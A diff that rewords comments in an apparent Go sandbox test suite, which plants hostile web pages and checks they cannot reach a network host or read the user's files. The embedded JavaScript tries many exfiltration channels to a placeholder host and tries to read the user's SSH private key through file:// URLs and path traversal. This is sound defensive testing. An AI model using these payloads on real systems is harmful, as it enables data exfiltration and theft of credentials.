@@ -8,18 +8,18 @@ import (
 	"testing"
 )
 
-// page is a page that somebody wrote to do harm. At is what it does when it is
-// asked to show a second, all that is outside of it what it does as it loads.
+// page is a page that somebody wrote to do harm. The code in at runs when the page
+// is asked to show a second; all other code runs as the page loads.
 type page struct {
 	name  string
 	short bool
 	load  string
 	at    string
 	html  string
-	takes int64 // megabytes of memory it may hold at most, as it fills memory
+	takes int64 // the most megabytes of memory that a page may hold which fills memory
 }
 
-// plant replaces the clone by the page.
+// plant replaces the content of the clone by the page.
 func (p page) plant(v *victim) {
 	html := `<!doctype html><meta charset="utf-8"><title>page</title>` + p.html + `<canvas id="canvas" width="160" height="90"></canvas><script>
 		const all = [], real = () => new Promise((done) => { const c = new MessageChannel(); c.port1.onmessage = done; c.port2.postMessage(0) })
@@ -35,7 +35,7 @@ func (p page) plant(v *victim) {
 	v.must(put("public/service.js", `self.onfetch = (e) => e.respondWith(fetch("http://{host}/s"))`)(v))
 }
 
-// pageCommands are what a person does with a page.
+// pageCommands are the commands that a person runs on a page.
 var pageCommands = []string{"still . --at 0.1", "render . -o out.mp4"}
 
 func hostilePages(t *testing.T, used string) {
@@ -68,7 +68,7 @@ func hostilePages(t *testing.T, used string) {
 	}
 }
 
-// network is every way out that a page has, of which none may reach a host.
+// network tries every way out of a page. None may reach a host.
 const network = `
 	const U = "http://{host}/x", add = (tag, as) => document.body.append(Object.assign(document.createElement(tag), as)), go = (f) => { try { Promise.resolve(f()).catch(() => {}) } catch {} }
 	go(() => fetch(U)); go(() => fetch(U, {mode: "no-cors", method: "POST", body: "x", keepalive: true})); go(() => fetchLater(U))
@@ -91,7 +91,7 @@ const network = `
 	go(() => CSS.paintWorklet.addModule(U)); go(() => new AudioContext().audioWorklet.addModule(U)); go(() => navigator.credentials.get({federated: {providers: [U]}, identity: {providers: [{configURL: U}]}}))
 `
 
-// reads is every way to the person's files.
+// reads tries every way to the person's files.
 const reads = `
 	const F = "file://{home}/.ssh/id_ed25519", tell = (x) => { console.log(x); throw new Error(x) }
 	const tries = [() => fetch(F).then((r) => r.text()).then(tell), () => fetch("/../../../../../..{home}/.ssh/id_ed25519").then((r) => r.text()).then(tell),
@@ -103,7 +103,7 @@ const reads = `
 	for (const f of tries) { try { await f() } catch (e) { console.error(e) } }
 `
 
-// hostilePage are pages that do harm if they can.
+// hostilePage lists pages that do harm if they can.
 var hostilePage = []page{
 	{name: "every way out as it loads", short: true, load: network, at: "await many(2000)"},
 	{name: "every way out at a second", at: network + "; await many(2000)"},
